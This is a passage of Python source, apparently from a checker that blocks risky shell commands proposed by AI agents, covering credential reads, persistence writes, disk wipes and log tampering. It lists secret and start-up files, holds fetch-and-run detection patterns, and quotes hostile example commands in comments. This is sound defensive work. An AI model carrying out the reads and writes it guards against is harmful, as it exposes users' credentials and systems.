"""Files: destructive deletes, disk wipes, permission tampering, persistence, secrets."""
from __future__ import annotations

import re
from dataclasses import replace
from fnmatch import fnmatchcase

from ..per_input import holds
from .. import paths, user_config
from . import admin
from .commands import PRIVILEGE, Cmd, has_flag, option_value, positionals
from .identity import LDAP_TOOLS, login_files
from .common import DOWNLOADERS, last_assigned, pipeline_stage
from .words import Word, file_key

# Canonical secret and persistence files, matched against globbed words (`~/.ss?/id_*`).
_SECRET_EXAMPLES = ("~/.ssh/id_rsa", "~/.ssh/id_ed25519", "~/.ssh/id_ecdsa", "~/.aws/credentials", "~/.netrc",
                    "/etc/shadow", "~/.config/gh/hosts.yml", "~/.docker/config.json", "~/.kube/config",
                    "~/.git-credentials", "/etc/gshadow", "~/Library/Keychains/login.keychain-db",
                    "~/Library/Application Support/Google/Chrome/Default/Login Data",
                    "~/Library/Application Support/Google/Chrome/Default/Cookies", "~/Library/Messages/chat.db")
_PERSIST_EXAMPLES = ("~/.bashrc", "~/.zshrc", "~/.profile", "~/.ssh/authorized_keys", "/etc/crontab",
                     "/etc/profile.d/x.sh", ".git/hooks/pre-commit", "/etc/ld.so.preload", "/etc/sudoers")
# Programs that use a key file without revealing it (`security` and `codesign` name a keychain to unlock, import into
# or sign with; macos.py judges what `security` prints), or tell only its size.
_SECRET_OK = frozenset({"ssh", "ssh-add", "ssh-keygen", "ssh-copy-id", "ls", "mkdir", "test", "[", "[[", "stat",
                        "chmod", "chown", "rm", "shred", "echo", "printf", "security", "codesign", "du", "age-keygen",
                        "age", "rage", "tee", "sponge"})  # (tee and sponge write their operands: judge_write)
_HARD = {paths.SYSTEM, paths.HOME}
# The Solana tools sign with the keypair file they are given (`solana-keygen pubkey ~/.config/solana/id.json`,
# `anchor deploy --provider.wallet …`, `solana balance -k …`) and never print it: as `ssh -i` does with its key, the
# key is used where the user keeps it. Given any other credential file, they are judged as any program.
_SOLANA_TOOLS = frozenset({"solana", "solana-keygen", "anchor", "spl-token"})
_SOLANA_KEY = re.compile(r"^~/(?:\.config/solana|\.solana)/[^/]+\.json$")
# solana-keygen's verbs that write a new keypair to `-o`, refusing to replace an existing one without `--force`
_KEYGEN_WRITES = frozenset({"new", "recover", "grind"})


def written_file(a, redirects: list) -> str | None:
    """The file a `>`/`>>` redirect among `redirects` writes (its static value), if any."""
    for r in redirects:
        if r.type != "file_redirect" or not any(c.type in (">", ">>", ">|", "&>", "&>>") for c in r.children):
            continue
        for d in r.children_by_field_name("destination")[:1]:
            w = a.ev.word(d)
            v = w.value if w.value is not None else pwd_path(w.text)  # `> "$PWD/.git/hooks/post-checkout"`
            if v:
                return v
    return None


def _kinds(w: Word) -> frozenset[str]:
    v = w.value if w.value is not None else None
    if v is None:
        return frozenset()
    if w.glob and v[:1] in "~/$":
        found = set()
        pattern = paths.normalize(v)
        if any(_glob_matches(pattern, e) for e in _SECRET_EXAMPLES):
            found.add(paths.SECRET)
        if any(_glob_matches(pattern, e) for e in _PERSIST_EXAMPLES):
            found.add(paths.PERSISTENCE)
        return frozenset(found) | paths.kinds(v)
    return paths.kinds(v)


path_kinds = _kinds  # for the walk: a word's kinds, globs matched against the canonical files


def _glob_matches(pattern: str, path: str) -> bool:
    """Shell glob semantics: `*` stays within one path segment and skips dot-files unless the
    segment pattern starts with a dot (`~/*` does not reach `~/.ssh/id_rsa`; `~/.ss?/id_*` does)."""
    pparts, parts = pattern.split("/"), path.split("/")
    if len(pparts) != len(parts):
        return False
    return all(fnmatchcase(seg, pat) and (not seg.startswith(".") or pat.startswith(".") or seg == pat)
               for pat, seg in zip(pparts, parts))


def _path_word(w: Word, v: str) -> Word:
    """The part of an argument (value `v`) that may name a file: the word, a `--opt=PATH`
    tail, curl's `@PATH`, dd's `if=`/`of=`, a `file://` URL, the `SRC` of `SRC:DST`."""
    if ":" not in v and "@" not in v and "=" not in v:
        return w  # the commonest case: a plain path or word
    if v.startswith("-") and "=" in v:
        t = v.split("=", 1)[1]
    elif "=@" in v or v.startswith("@"):
        t = v.split("@", 1)[1]
    elif v.startswith("if=") or v.startswith("of="):
        t = v[3:]
    else:
        t = v
    t = t.removeprefix("file://")  # `curl file://$HOME/.ssh/id_rsa`
    if ":" in t and t[:1] in "~/":  # a `SRC:DST` mount or copy (`-v ~/.ssh:/k`)
        t = t.split(":", 1)[0]
    return w if t == v else Word(w.node, t, t, glob=w.glob)


# (a `${` with no `}` after it takes the rest of the text, left as it is, so that a run of them is read once; the
# text keeps a `$` and has no shape either way)
_DYNAMIC_PART = re.compile(r"\$\((?:[^()]|\([^()]*\))*\)|`[^`]*`|\$\{[^}]*+(?:\}|\Z)|\$\w+|\$\$")


def _dynamic_shape(text: str) -> str | None:
    """An absolute path with parts known only at run time, each such part one name: `/proc/$(pidof gpg-agent)/mem`
    is /proc/_/mem and `/home/$u/.ssh/id_ed25519` is /home/_/.ssh/id_ed25519, which match the secret patterns
    whatever the name turns out to be. None for other texts."""
    t = text.removeprefix("if=").replace('"', "")
    if not t.startswith("/") or "$" not in t and "`" not in t and "*" not in t:
        return None
    t = _DYNAMIC_PART.sub(lambda m: "_" if m.group(0)[:2] != "${" or m.group(0)[-1] == "}" else m.group(0), t)
    if "*" in t and "[" not in t and "?" not in t:
        t = re.sub(r"\*+", "_", t)  # a glob a loop went over (`~/.mozilla/firefox/*.default-release/$f`): one name
    return None if "$" in t or "`" in t or "'" in t or "*" in t else t


_LEAD_VAR = re.compile(r"^\$\{?(\w+)\}?(?=/)")
# a variable given the first file a pattern lists (`$(ls /mnt/c/Users/*/AppData/…/settings.json | head -1)`): a file
# of that pattern, whichever it turns out to be
_LISTED = re.compile(r"^\$\(\s*(?:ls|echo|realpath|readlink\s+-f)\s+(?:-[A-Za-z1]+\s+)*([/~$][^\s|;&()`<>]*)\s*"
                     r"(?:2>\s*/dev/null\s*)?(?:\|\s*(?:head|tail)(?:\s+-n\s*1|\s+-1)?\s*)?\)$")


def _listed(text: str) -> str:
    m = _LISTED.match(text)
    return m.group(1) if m is not None else text


def run_time_shape(a, w: Word) -> str | None:
    """The shape (_dynamic_shape) of a word whose value is only known at run time, read further: a leading variable
    this script assigned earlier stands for what it was assigned (`CH="/mnt/c/Users/$WINUSER/AppData/…"` then
    `"$CH/Default/Login Data"`), a home variable (`$HOME`, `$WINHOME`) or a Windows profile's folder computed with
    wslpath for `~`. None when it does not start at the root or a home."""
    t = w.text.replace('"', "")
    m = _LEAD_VAR.match(t)
    if m is not None and paths.normalize(m.group(0)) != "~" and (got := _assigned_text(a, m.group(1), w.node)):
        t = _listed(got) + t[m.end():]
    elif t[:1] == "$" and (m := _BARE_VAR.match(t)) is not None and (got := _assigned_text(a, m.group(1), w.node)) \
            and (found := _LISTED.match(got)) is not None:
        t = found.group(1)  # `WT=$(ls /mnt/c/Users/*/…/settings.json | head -1)` then `"$WT"`: a file of that pattern
    t = paths.windows_profile(t)
    head, _, rest = t.partition("/")
    if head and head != "~" and "$" in head and paths.normalize(head) == "~":
        t = "~/" + rest
    if t.startswith("~/"):
        shape = _dynamic_shape(t[1:]) if "$" in t or "`" in t else t[1:]
        return None if shape is None else "~" + shape
    return _dynamic_shape(t)


_CONTAINER_CLIS = frozenset({"docker", "podman", "nerdctl"})


# copies and links between the user's own credential folders on this machine (a WSL home and the Windows profile)
_CREDENTIAL_MOVERS = frozenset({"cp", "ln"})


def _secret_at(a, w: Word, beside: bool = False) -> str | None:
    """The home path a copy's operand names (its value, or its run-time shape) when it is a credential file (with
    `beside`, also a file kept in a credential folder: `~/.ssh/id_ed25519.pub`), not a start-up file."""
    at = w.value if w.value is not None else run_time_shape(a, w)
    if at is None or w.glob:
        return None
    n = paths.normalize(at)
    if not n.startswith("~/"):
        return None
    k = paths.kinds(n)
    if paths.PERSISTENCE in k or paths.SECRET not in k and not (beside and paths.credential_folder(n.rsplit("/", 1)[0])):
        return None
    return n


def own_credential_copy(a, cmd: Cmd) -> tuple[list[str], str] | None:
    """`cp "/mnt/c/Users/$WINUSER/.ssh/id_ed25519" ~/.ssh/`, `ln -s "/mnt/c/Users/$WINUSER/.aws" ~/.aws`: the user's
    own credentials copied or linked from one of their credential folders to another on this machine. The agent
    reads none of it and nothing leaves the machine: (sources, target) for a person to approve, None otherwise."""
    if cmd.name not in _CREDENTIAL_MOVERS:
        return None
    targets = write_targets(cmd)
    if len(targets) != 1 or (target := _secret_at(a, targets[0])) is None:
        return None
    found = [_secret_at(a, x, beside=True) for x in copy_sources(cmd, targets[0])]
    if not found or None in found or not any(paths.SECRET in paths.kinds(n) for n in found):
        return None
    return found, target


def check_args(a, cmd: Cmd) -> None:
    if len(cmd.words) < 2 or cmd.name in _SECRET_OK:
        return
    if cmd.name in _CREDENTIAL_MOVERS and (moved := own_credential_copy(a, cmd)) is not None:
        a.review("secret-read", f"`{cmd.name}` puts the credentials {', '.join(moved[0])} into {moved[1]}: the user's "
                                "own, from one of their credential folders on this machine to another; ask the user "
                                "to approve it (or to do it themselves)", cmd.node)
        return
    words = cmd.words[1:]
    if cmd.name in _CONTAINER_CLIS:
        from .containers import tool_credentials

        handed = tool_credentials(cmd)
        words = [w for w in words if w.value not in handed]
    elif cmd.name in ("scp", "sftp"):
        from .net import ssh_key_words

        keys = ssh_key_words(cmd)  # `scp -i ~/.ssh/id_work f host:`: the key it logs in with, as `ssh -i` does
        words = [w for w in words if (w.node.start_byte, w.node.end_byte) not in keys]
    elif cmd.name in LDAP_TOOLS:
        # `ldapmodify -y /run/secrets/ldap_pw`: the password it binds with, as `ssh -i` (bash/identity.py)
        keys = login_files(cmd)
        words = [w for w in words if (w.node.start_byte, w.node.end_byte) not in keys]
    elif cmd.name in ("kinit", "klist"):
        from .directory import keytab_words

        keys = keytab_words(cmd)  # `kinit -kt /etc/krb5.keytab`: the keytab it logs in with, as `ssh -i` does
        words = [w for w in words if (w.node.start_byte, w.node.end_byte) not in keys]
    elif cmd.name == "aws":
        from .streaming import signing_key_words

        keys = signing_key_words(cmd)  # `aws cloudfront sign --private-key file://KEY`: it signs with the key
        words = [w for w in words if (w.node.start_byte, w.node.end_byte) not in keys]
    if cmd.name == "git":
        if any(w.value == "config" for w in words):
            return  # `git config user.signingkey ~/.ssh/id_ed25519` stores a path; it reads nothing
        words = [w for j, w in enumerate(words) if j == 0 or words[j - 1].value != "-c"]
    for w in words:
        v = w.value
        # every secret pattern (paths._SECRET, _SECRET_EXAMPLES) has a `/`, and neither a tail
        # nor path normalisation adds one: an argument without it cannot name a credential file
        if v is None:
            if w.text and paths.KEY_FILE.search(w.text):  # `cat $(ls -d ~/.ss*)/id_rsa`
                a.block("secret-read", f"`{cmd.name}` reads a private key file ({w.text}) from a directory computed "
                                       "at run time; agents must not touch credentials", w.node)
            elif (shape := run_time_shape(a, w)) is not None and paths.SECRET in paths.kinds(shape):
                a.block("secret-read", f"`{cmd.name}` reads {w.text}, whichever name the run-time part picks is a "
                                       "secret (another process's memory or environment, a user's keys); agents "
                                       "must not touch credentials", w.node)
            continue
        if "/" not in v and a.cwd is None:
            continue
        if v in _ENDLESS_DEV:
            a.streams = True  # for system.check_fill
        pw = _path_word(w, v)
        k = _kinds(pw)
        if paths.SECRET in k and cmd.name in _SOLANA_TOOLS and _solana_key_used(a, cmd, pw):
            continue
        if paths.SECRET in k:
            a.block("secret-read", f"`{cmd.name}` reads the secret {pw.value}; agents must not touch credentials",
                    pw.node)
        elif paths.DEVICE in k and cmd.name in _RAW_READERS:  # `cat /dev/nvme0n1 | ...`
            a.block("secret-read", f"`{cmd.name} {pw.value}` reads the raw disk, every file and credential on it",
                    pw.node)
        elif pw.value and (there := a.in_cwd(pw.value)) is not None and paths.SECRET in paths.kinds(there):
            a.block("secret-read", f"`{cmd.name}` reads the secret {there} (after `cd {a.cwd}`); "
                                   "agents must not touch credentials", pw.node)


def _solana_key_used(a, cmd: Cmd, w: Word) -> bool:
    """Whether the Solana tool `cmd` only signs with, or derives the public key of, the keypair `w` names (see
    _SOLANA_TOOLS). `solana-keygen new --force -o KEY` replaces the keypair, and with it every fund and authority it
    held that no backup restores: held for a person (irreversible)."""
    if w.value is None or w.glob or not _SOLANA_KEY.match(paths.normalize(w.value)):
        return False
    if cmd.name == "solana-keygen":
        verb = next((x.value for x in cmd.args if x.value and not x.value.startswith("-")), None)
        if verb in _KEYGEN_WRITES and any(x.value in ("--force", "-f") for x in cmd.args):
            a.review("irreversible", f"`solana-keygen {verb} --force` replaces the keypair {w.value}: whatever the old "
                                     "key held or controlled (funds, program upgrade authority) is lost unless it is "
                                     "backed up; write the new key to another file (`-o new.json`) or ask the user",
                     w.node)
    return True


_TARS = frozenset({"tar", "gtar", "bsdtar"})
# programs that print what they read: on a block device, the whole disk
_RAW_READERS = frozenset({"cat", "strings", "xxd", "od", "hexdump", "base64", "pv", "gzip", "zstd", "xz", "bzip2",
                          "tail", "head"})


def _tar_relative(a, cmd: Cmd) -> None:
    """`tar czf k.tgz -C ~ .ssh`: names after `-C DIR` are read from DIR."""
    found = option_value(cmd.args, "-C", "--directory")
    base = found[-1].value if found else None
    if base is None:
        return
    for w in cmd.args:
        v = w.value
        if v is not None and not v.startswith(("-", "/", "~", "$")) and \
                paths.SECRET in paths.kinds(there := f"{base}/{v}"):
            a.block("secret-read", f"`{cmd.name}` reads the secret {paths.normalize(there)} (after -C {base}); "
                                   "agents must not touch credentials", w.node)


_GIT_OUTPUT = frozenset({"diff", "log", "show", "format-patch", "whatchanged", "range-diff", "diff-tree",
                         "diff-files", "diff-index"})


# cp/mv/install/ln options that take a value (other than the target directory)
_COPY_ARG = frozenset({"-S", "--suffix", "-m", "--mode", "-o", "--owner", "-g", "--group"})


def copy_sources(cmd: Cmd, target: Word) -> list[Word]:
    """What `cp`/`mv`/`install`/`ln` puts at `target` (the word write_targets gave): its other operands."""
    return [w for w in positionals(cmd.args, _COPY_ARG | {"-t", "--target-directory"}) if w is not target]


def write_targets(cmd: Cmd) -> list[Word]:
    n, args = cmd.name, cmd.args
    if n in ("tee", "sponge"):  # (moreutils' sponge writes its input to the file once the input ends)
        return positionals(args)
    if n == "install" and has_flag(args, "d", ("--directory",)):
        return positionals(args, _COPY_ARG)  # `install -d -o app A B`: every operand is a folder made
    if n in ("cp", "mv", "install", "ln", "rsync", "scp"):
        t = option_value(args, "-t", "--target-directory")
        if t:
            return t
        pos = positionals(args, _COPY_ARG)
        return pos[-1:] if len(pos) >= 2 else []
    if n == "dd":  # (`of="/var/log/$f"`: a name computed at run time is judged by its folder)
        return [Word(w.node, w.value[3:], w.value[3:]) if w.value is not None else Word(w.node, None, w.text[3:])
                for w in args if (w.value if w.value is not None else w.text).startswith("of=")]
    if n in ("sed", "gsed", "perl") and has_flag(args, "i", ("--in-place",)):
        pos = positionals(args, frozenset({"-e", "--expression", "-f", "--file"}))
        return pos[1:] if not option_value(args, "-e", "--expression") else pos
    if n in ("truncate", "touch"):
        return positionals(args, frozenset({"-s", "--size", "-r", "--reference", "-d", "-t"}))
    if n == "curl":
        return option_value(args, "-o", "--output", cluster="o")
    if n == "aria2c":
        return option_value(args, "-o", "--out")
    if n == "wget":
        return option_value(args, "-O", "--output-document", cluster="O")
    if n in ("unzip",):
        return option_value(args, "-d")
    if n == "git":  # `git diff --output=~/.bashrc`: a listed git writing a start-up file
        sub = positionals(args, frozenset({"-C", "-c", "--git-dir", "--work-tree", "--namespace"}))[:1]
        return option_value(args, "--output") if sub and sub[0].value in _GIT_OUTPUT else []
    if n in ("pytest", "py.test"):  # --basetemp is emptied first: `pytest --basetemp=~` deletes the home
        return option_value(args, "--basetemp", "--junitxml", "--junit-xml", "--result-log", "--resultlog")
    return _output_file(n, args)


# Tools that write a file they are given, beyond the copiers: an output option, or an operand that is the file
# edited or written (`uudecode -o ~/.bashrc p.uu`, `ed -s ~/.bashrc <<< …`, `xxd -r p.hex ~/.profile`)
_OUTPUT_OPTION = {**dict.fromkeys(("sort", "shuf", "iconv", "base64", "base32", "uudecode", "gpg", "gpg2"),
                                  (("-o", "--output"), "o")),
                  "openssl": (("-out",), ""), "patch": (("-o", "--output"), "o"), "script": (("-O", "-B", "--log-out",
                                                                                                    "--log-io"), "")}
_OPERAND_ARG = {"uniq": frozenset({"-f", "-s", "-w", "--skip-fields", "--skip-chars", "--check-chars"}),
                "xxd": frozenset({"-c", "-g", "-l", "-s", "-o", "-n", "-cols", "-len", "-seek", "-name"}),
                "patch": frozenset({"-p", "-i", "-o", "-d", "-r", "-B", "-z", "-D", "-F", "-V", "-Y", "--input",
                                    "--output", "--directory", "--reject-file", "--prefix", "--suffix"}),
                "script": frozenset({"-c", "--command", "-E", "--echo", "-m", "--logging-format", "-t", "-T",
                                     "--log-timing", "-I", "-O", "-B", "--log-in", "--log-out", "--log-io"}),
                "ed": frozenset({"-p", "--prompt"}), "red": frozenset({"-p", "--prompt"}), "ex": frozenset({"-c"}),
                "sd": frozenset({"-f", "--flags", "-n", "--max-replacements"})}
# which operands are written: `uniq IN OUT` and `xxd IN OUT` the second, `patch FILE PATCH` the first, `sd FIND
# REPLACE FILE…` from the third, the editors all of them
_WRITTEN_OPERANDS = {"uniq": slice(1, 2), "xxd": slice(1, 2), "patch": slice(0, 1), "script": slice(0, 1),
                     "ed": slice(None), "red": slice(None), "ex": slice(None), "sd": slice(2, None)}
# vi, vim and nvim write only when run as a script (`vim -es -c '…' -c wq FILE`); opened for a person, they wait
_VIM_SCRIPTED = ("-e", "-E", "-s", "-es", "-Es", "-c", "--cmd")


def _output_file(n: str, args: list[Word]) -> list[Word]:
    out: list[Word] = []
    if (opt := _OUTPUT_OPTION.get(n)) is not None:
        out = option_value(args, *opt[0], cluster=opt[1])
    if n in ("vi", "vim", "nvim") and any(w.value in _VIM_SCRIPTED for w in args):
        n = "ex"
    if (which := _WRITTEN_OPERANDS.get(n)) is not None:
        pos = positionals(args, _OPERAND_ARG.get(n, frozenset()) | {"-c", "--cmd"} if n == "ex" else
                          _OPERAND_ARG.get(n, frozenset()))
        out += [w for w in pos[which] if not (w.value or "").startswith("+")]
    return out


def judge_write(a, cmd_name: str, w: Word, how: str, cmd: Cmd | None = None) -> None:
    if runtime_device(w):  # `cat /dev/urandom > /dev/$d`
        a.block("disk-wipe", f"{how} {w.text[:60]}, a disk named at run time", w.node)
        return
    if w.value is None and (at := pwd_path(w.text)) is not None:  # `"$PWD/.git/hooks/x"`, `"$GITHUB_WORKSPACE/…"`
        w = Word(w.node, at, w.text)
    k = _kinds(w)
    v = w.value
    if cmd is not None and ".wslconfig" in w.text and _boots_kernel(a, cmd, w, how):
        return
    if cmd is not None and ("settings" in w.text or v is None and "$" in w.text) and _run_settings(a, cmd, w, how):
        return
    if cmd is not None and "known_hosts" in w.text and _trusts_every_host(a, cmd, w, how):
        return
    if cmd is not None:
        _grants_root(a, cmd, w)  # (what the target is judged below besides: a folder of persistence, a mounted disk)
    if v is None and cmd is not None:
        _computed_name(a, cmd, w, how)
        return
    if v is not None and cmd is not None and v[:1] in "/~" and admin.judge_write(a, cmd, w, v, k, how):
        return  # a configuration root changes judged by what is written to it (/etc/hosts, a unit, ~/.ssh/config …)
    if not k or v is None:
        return
    if paths.PERSISTENCE in k and cmd is not None and path_line_appended(a, cmd, w, v):
        return  # `echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc`: what installers do
    if paths.PERSISTENCE in k and cmd is not None and _user_settings(a, cmd, w, v):
        return  # a Host block in ~/.ssh/config, mouse mode in ~/.tmux.conf: settings read again, but nothing run
    if paths.PERSISTENCE in k:
        a.block("persistence", f"{how} {v}, which runs code later (shell start-up, ssh, cron, systemd, "
                               "git hooks or config); agents must not change it", w.node)
    elif paths.DEVICE in k:
        a.block("disk-wipe", f"{how} the block device {v}", w.node)
    elif paths.LOG in k:
        if cmd is not None and _job_log_appended(a, cmd, w, v):
            return
        a.block("anti-forensics", f"{how} the log or history file {v}", w.node)
    elif paths.SECRET in k:
        a.block("secret-read", f"{how} the credential file {v}", w.node)
    elif paths.SYSTEM in k or paths.HOME in k:
        a.block("system-write", f"{how} the system path {v}; keep writes inside the project", w.node)


def _user_settings(a, cmd: Cmd, w: Word, v: str) -> bool:
    """Judge the text written to the user's ssh or tmux configuration by what it says (user_config.py); True when
    judged here. A text not known here, or holding a line not read there, keeps the path's block."""
    path = paths.normalize(v)
    ssh = path == "~/.ssh/config" or path.startswith("~/.ssh/config.d/")
    if not ssh and not user_config.TMUX_PATH.match(path):
        return False
    text = admin.written_text(a, cmd, w)
    if text is None:
        return False
    found = user_config.ssh_config(text, admin._SSH_SAFE, admin._SSH_RUNS, admin._ssh_include) if ssh else \
        user_config.tmux_conf(text)
    if found is None:
        return False
    verdict, rule, message = found
    if verdict == "block":
        a.block(rule, f"`{cmd.name}` writes {path}: {message}", w.node)
    elif path == "~/.ssh/config" and not admin.appends(a, cmd, w):
        a.review("system-write", f"`{cmd.name}` replaces ~/.ssh/config: the hosts already in it are lost; append the "
                                 "Host block instead (`>>`, `tee -a`)", w.node)
    return True


# WSL's own settings in the Windows profile (`~/.wslconfig`): memory, processors, networking are ordinary tuning; its
# `kernel=` (and `initrd`, `kernelModules`, `kernelCommandLine`) names what boots every WSL distro, a file the writer
# chose (a kernel downloaded beside it runs beneath every later session)
# (`^[^\S\n]*+`: a blank line before is a line start of its own; `^\s*` re-read every blank line after each)
_WSL_BOOT = re.compile(r"(?im)^[^\S\n]*+(?:kernel|kernelCommandLine|kernelModules|initrd)\s*=")


def _boots_kernel(a, cmd: Cmd, w: Word, how: str) -> bool:
    """Block a write of a `kernel=`-like line to `~/.wslconfig` (also at a profile computed at run time)."""
    at = w.value if w.value is not None else run_time_shape(a, w)
    if at is None or paths.normalize(at) != "~/.wslconfig":
        return False
    text = _written_text(a, cmd, w)
    if text is None and cmd.name == "tee":  # `printf '[wsl2]\nkernel=…' | tee ~/.wslconfig`: what the stage before prints
        from .written import piped_into

        cmd = piped_into(a, cmd) or cmd
        text = _written_text(a, cmd, w) if cmd.name in ("echo", "printf") else None
    if text is None and cmd.name in ("echo", "printf"):  # (`printf '…kernel=%s…' "$K"`: the format is enough)
        text = "\n".join(x.text for x in cmd.args).replace("\\n", "\n")
    if text is None or not _WSL_BOOT.search(text):
        return False
    a.block("persistence", f"{how} {at} a kernel, initrd or kernel command line that every WSL distro boots; agents "
                           "must not change it (set memory and processors only, or ask the user)", w.node)
    return True


# -- settings a program reads at every start (session 17b) -----------------------------------------------------------
# Windows Terminal's settings name the command line of each profile, run in every new tab; Docker Desktop's whether
# the engine's API listens on TCP 2375 without TLS (root for anyone who reaches it). Fonts, themes, memory limits are
# ordinary edits; an edit whose text has a tab run something downloaded, or opens the API, is blocked. The text is what
# the command writes, or the edit program's own words (`jq '… .commandline = "…"' "$WT" > /tmp/wt.json`, then
# `cp /tmp/wt.json "$WT"`).
# (`iex` with a download after it on its line, within 120 characters, is read by _fetch_run: a try from each `iex` of
# a run of them read the same 120 characters again)
_FETCH_IEX = re.compile(r"(?i)\b(?:iex|invoke-expression)\b")
_FETCH_IEX_SOURCE = re.compile(r"(?i)\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|curl|wget|start-bitstransfer)\b|"
                               r"downloadstring|downloaddata|net\.webclient")
_FETCH_RUN = re.compile(
    r"(?i)\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring)\b[^\n]{0,200}?\|\s*"
    r"(?:iex|invoke-expression)\b|"
    r"\b(?:curl|wget)\b[^\n|;]{0,200}\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|"
    r"\b(?:ba|z)?sh\s+-c\s+[\\\"']*\$\((?:curl|wget)\b|\bmshta(?:\.exe)?\s+[\\\"']*https?://")


def _fetch_run(text: str) -> str | None:
    """The first command line of `text` that runs something fetched: an `iex` with a download after it (within 120
    characters of its line; tried first where both start), else what _FETCH_RUN finds. The next download and the next
    line end are each looked up once for the `iex`s before them, so that a run of `iex`s is read once."""
    m = _FETCH_RUN.search(text)
    stop = m.start() if m else len(text)
    source = line_end = None
    for iex in _FETCH_IEX.finditer(text):
        at = iex.end()
        if iex.start() > stop:
            break
        if source is None or source.start() < at:
            source = _FETCH_IEX_SOURCE.search(text, at)
            if source is None:
                break  # no download after this `iex`, nor after the later ones
        if line_end is None or line_end < at:
            line_end = text.find("\n", at)
            line_end = len(text) if line_end < 0 else line_end
        if source.start() - at <= 120 and source.start() <= line_end:
            return text[iex.start():source.end()]
    return m.group(0) if m else None


_DOCKER_TCP = re.compile(r"(?i)exposeDockerAPIOnTCP2375[\\\"'\]\s]*[:=]\s*true")
_EDITORS = frozenset({"jq", "yq", "sed", "gsed", "perl", "python3", "python", "node", "sponge", "tee"})


def _edit_text(a, cmd: Cmd, w: Word) -> str | None:
    """What `cmd` puts in `w`, or the words of the program that made it: the edit itself (`sed -i`, `jq … | sponge`),
    or, for a copy, the command of this script that wrote its source (`jq … > /tmp/wt.json; cp /tmp/wt.json "$WT"`)."""
    from .written import piped_into

    text = admin.written_text(a, cmd, w)
    if text is not None:
        return text
    if cmd.name in _EDITORS:
        before = piped_into(a, cmd) if cmd.name in ("sponge", "tee") else cmd
        return " ".join(x.value or x.text for x in before.args) if before is not None else None
    if cmd.name not in _COPIES:
        return None
    sources = [x.value for x in copy_sources(cmd, w) if x.node is not w.node]
    if len(sources) != 1 or not sources[0]:
        return None
    where = paths.normalize(sources[0])
    for doc, c in reversed(a.ctx.commands):
        if doc is a.doc and c.redirects and c.node.start_byte < cmd.node.start_byte:
            out = written_file(a, c.redirects)
            if out and paths.normalize(out) == where:
                return admin.written_text(a, c, Word(c.node, out, out)) or " ".join(x.value or x.text for x in c.args)
    return None


def _run_settings(a, cmd: Cmd, w: Word, how: str) -> bool:
    """Block an edit of Windows Terminal's settings that has a tab run something downloaded, or of Docker Desktop's
    that opens the engine's API on TCP without TLS."""
    at = w.value if w.value is not None else run_time_shape(a, w)
    which = paths.run_settings(at) if at else None
    if which is None:
        return False
    text = _edit_text(a, cmd, w)
    if not text:
        return False
    if which == "terminal" and (fetched := _fetch_run(text)) is not None:
        a.block("persistence", f"{how} Windows Terminal's settings ({w.text}) a command line that runs "
                               f"`{fetched[:60]}`, fetched from the network, in every new tab; agents must not "
                               "change what the terminal starts (change fonts or themes only, or ask the user)", w.node)
        return True
    if which == "docker" and _DOCKER_TCP.search(text):
        a.block("system-disruption", f"{how} Docker Desktop's settings ({w.text}) `exposeDockerAPIOnTCP2375`: the "
                                     "engine's API on TCP without TLS runs any container, as root on the host, for "
                                     "whoever reaches the port; use the named pipe or socket (`docker context`), or "
                                     "ask the user", w.node)
        return True
    return False


# an ssh CA trusted for every host (`@cert-authority * ssh-ed25519 …` in known_hosts): any server holding a
# certificate it signed is taken for any host, so whoever holds the CA's key reads every later ssh session. A line
# of one host's key (`ssh-keyscan host >> ~/.ssh/known_hosts`), or a CA for the company's own domain, is ordinary.
# (`^[^\S\n]*+`: a blank line before is a line start of its own; `^\s*` re-read every blank line after each)
_CA_LINE = re.compile(r"(?m)^[^\S\n]*+@cert-authority\s+(\S+)")
_KNOWN_HOSTS = re.compile(r"^(?:~/\.ssh/known_hosts2?|/etc/ssh/ssh_known_hosts2?)$")


def _trusts_every_host(a, cmd: Cmd, w: Word, how: str) -> bool:
    at = w.value if w.value is not None else run_time_shape(a, w)
    if at is None or not _KNOWN_HOSTS.match(paths.normalize(at)):
        return False
    text = admin.written_text(a, cmd, w)
    if text is None and cmd.name in ("echo", "printf"):
        text = " ".join(x.text for x in cmd.args).replace("\\n", "\n")
    for m in _CA_LINE.finditer(text or ""):
        hosts = m.group(1).strip("'\"").split(",")
        if any(h and not h.startswith("!") and set(h) <= set("*?.") for h in hosts):
            a.block("persistence", f"{how} {at} an ssh certificate authority trusted for every host "
                                   f"(`@cert-authority {m.group(1)[:20]}`): a server with a certificate it signed is "
                                   "taken for any host, so its key holder can read every later ssh session; add the "
                                   "host's own key (`ssh-keyscan HOST`) or scope the CA to your domain", w.node)
            return True
    return False


# Every file of these folders is of their kind whatever its name: a name computed at run time does not change what
# is written (`sudo tee "/etc/sudoers.d/99-$(whoami)"`, `cp /dev/null "$L/$f"` over the logs of a loop)
_FOLDER_KINDS = ((paths.PERSISTENCE, "persistence", "a file the system reads to run code or grant rights later (sudo, "
                                                    "cron, shell start-up, systemd); agents must not change it"),
                 (paths.LOG, "anti-forensics", "a log or history file: emptying or overwriting it hides what happened"),
                 (paths.SECRET, "secret-read", "a credential file; agents must not touch credentials"))


# (what only empties a file, `: > "/var/log/$(date +%F).log"`, writes no output worth a log of its own)
_EMPTIERS = frozenset({":", "true", "false", "", None, "cp", "truncate", "dd", "install", "shred"})
_DATE_SUBST = re.compile(r"\$\(date(?:\s[^()$`]*)?\)")  # `$(date +%F)`: a name the date makes, nothing else


def _computed_name(a, cmd: Cmd, w: Word, how: str) -> None:
    """Judge a write to an absolute path whose name is partly computed (`/etc/cron.d/job-$(date +%s)`) as a write to
    any file there: read with `_` for each computed name, it falls in the folder's kind or in none."""
    # (`"$HOME/.config/systemd/user/$n.service"`: the home's own folders too; a folder assigned earlier)
    shape = run_time_shape(a, w)
    if shape is None:
        return
    k = paths.kinds(shape)
    if not k & {paths.PERSISTENCE, paths.LOG, paths.SECRET}:
        return
    if admin.judge_write(a, cmd, Word(w.node, shape, w.text), shape, k, how):
        return  # a configuration judged by its text (a unit written to `/etc/systemd/system/$name.service`)
    rule, why = next((r, m) for kind, r, m in _FOLDER_KINDS if kind in k)
    if rule == "anti-forensics" and _job_log_appended(a, cmd, Word(w.node, shape, w.text), shape):
        return  # (appended, as to a log named in full)
    if rule == "anti-forensics" and "$" not in _DATE_SUBST.sub("", w.text) and "`" not in w.text and \
            cmd.name not in _EMPTIERS and (cmd.name not in ("echo", "printf") or
